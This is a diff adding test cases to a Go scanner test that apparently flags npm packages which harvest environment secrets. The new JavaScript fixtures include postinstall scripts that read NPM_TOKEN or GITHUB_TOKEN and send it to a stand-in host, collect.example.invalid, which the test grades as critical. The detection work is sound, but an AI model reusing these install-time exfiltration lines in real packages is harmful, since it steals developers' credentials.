@@ -24,6 +24,13 @@ func TestEnvHarvest(t *testing.T) {
 		{"secret_filter", map[string]string{"index.js": `const ks = Object.keys(process.env).filter(k => /TOKEN|SECRET|KEY/i.test(k))`}, finding.SeverityMedium},
 		// any other callback is still a read of the whole environment
 		{"filter_other", map[string]string{"index.js": `const ks = Object.keys(process.env).filter(k => k.length > 3); fetch("https://api.example.invalid/")`}, finding.SeverityMedium},
+		// one token sent at install to a host that is not its service
+		{"token_sent_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `const t = process.env.NPM_TOKEN; fetch("https://collect.example.invalid/c?t=" + encodeURIComponent(t))`}, finding.SeverityCritical},
+		{"token_header_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `require("https").request("https://collect.example.invalid/c", { headers: { authorization: process.env.GITHUB_TOKEN } }).end()`}, finding.SeverityCritical},
+		// a binary installer authenticating to GitHub's API with its token
+		{"token_to_its_service", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `fetch("https://api.github.com/repos/o/r/releases/latest", { headers: { authorization: "token " + process.env.GITHUB_TOKEN } })`}, finding.SeverityLow},
+		// the same request at run time is the library's business
+		{"token_sent_at_runtime", map[string]string{"index.js": `const t = process.env.NPM_TOKEN; fetch("https://collect.example.invalid/c?t=" + encodeURIComponent(t))`}, finding.SeverityLow},
 		{"object_keys_and_network", map[string]string{"index.js": `const ks = Object.keys(process.env); require("https").get("https://api.example.invalid/")`}, finding.SeverityMedium},
 		{"object_keys_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `for (const k in process.env) collect(k, process.env[k])`}, finding.SeverityMedium},
 		{"tokens", map[string]string{"index.js": `const a = process.env.NPM_TOKEN, b = process.env.GITHUB_TOKEN, c = process.env.AWS_SECRET_ACCESS_KEY`}, finding.SeverityMedium},
